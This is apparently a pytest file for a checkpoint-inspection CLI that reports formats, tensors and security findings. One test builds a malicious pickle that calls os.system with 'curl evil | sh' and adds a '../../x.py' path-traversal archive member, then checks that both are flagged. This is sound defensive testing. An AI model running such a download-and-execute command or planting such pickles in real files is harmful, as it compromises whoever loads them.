"""What ``rnp inspect`` shows people: all that triage finds, also of hostile files."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from torch import nn

from rnp_core.architectures import build
from rnp_core.checkpoints import inspect_checkpoint
from rnp_core.cli_inspect import print_inspection
from tests.helpers import layout_files as files
from tests.helpers import pickle_ops as ops

Capsys = pytest.CaptureFixture[str]


def shown(path: Path, capsys: Capsys) -> str:
    """The text for a file, with the line breaks of a narrow terminal taken out."""
    print_inspection(json.loads(json.dumps(inspect_checkpoint(path).to_dict())))
    return " ".join(capsys.readouterr().out.split())


def test_a_dangerous_file(tmp_path: Path, capsys: Capsys) -> None:
    evil = ops.network(ops.call("os", "system", ops.text("[red]curl evil | sh")))
    path = ops.write_zip(tmp_path / "m.pth", evil, members={"../../x.py": b""})
    text = shown(path, capsys)
    assert inspect_checkpoint(path).sha256 in text
    assert "torch-zip" in text and "inert" in text
    assert "fc.weight 2 x 2 float32" in text
    assert "would import collections.OrderedDict, os.system" in text
    assert "critical: unsafe-global" in text and "AML.T0018.002" in text and "CWE-502" in text
    assert "[red]curl evil | sh" in text
    assert "high: archive-path" in text and "../../x.py" in text
    assert "picklescan 1." in text


def test_what_a_folder_declares(tmp_path: Path, capsys: Capsys) -> None:
    text = shown(files.huggingface_folder(tmp_path, files.network()), capsys)
    assert "claims to be ResNetForImageClassification" in text
    assert "mean [0.4, 0.5, 0.6]" in text and "[3, 8, 8]" in text
    assert "stop, yield, left, right" in text
    assert "would import nothing" in text


def test_a_pickled_network(tmp_path: Path, capsys: Capsys) -> None:
    model = nn.DataParallel(build("resnet18", num_classes=10, widths=(4, 4, 4, 4)))
    path = files.save(model, tmp_path / "m.pt")
    text = shown(path, capsys)
    assert inspect_checkpoint(path).sha256 in text
    assert "prefix removed module." in text
    assert "torch.nn.modules.batchnorm.BatchNorm2d" in text
    assert "resnet18 (family resnet)" in text
    assert "122 tensor(s)" in text and "and 82 more" in text


def test_a_refused_file(tmp_path: Path, capsys: Capsys) -> None:
    (tmp_path / "m.onnx").write_bytes(b"\x08\x08\x12\x07pytorch\x1a\x052.0.0" + bytes(50))
    assert "ONNX files are not supported yet" in shown(tmp_path / "m.onnx", capsys)
